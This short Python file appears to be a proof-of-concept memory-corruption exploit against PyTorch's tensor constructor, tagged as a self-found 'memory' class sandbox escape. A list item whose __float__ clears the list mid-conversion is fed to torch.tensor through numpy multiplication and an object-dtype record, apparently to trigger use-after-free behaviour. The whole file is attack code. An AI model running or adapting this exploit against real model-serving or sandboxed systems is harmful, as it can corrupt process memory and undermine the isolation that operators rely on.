"""Class: memory. Source: own find. Escape: the same, with the list held by an array of objects, or by a
record out of one."""

import numpy as np
import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


class Maker:
    def __rmul__(self, other):
        return data


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    first = [[1.0] * 5_000_001]
    for make in (
        lambda: np.ones(1) * [Maker()],
        lambda: np.array([(data,)], dtype=[("a", "O")])[0],
    ):
        try:
            torch.tensor([first, make()], dtype=torch.float64)
        except Exception:
            pass
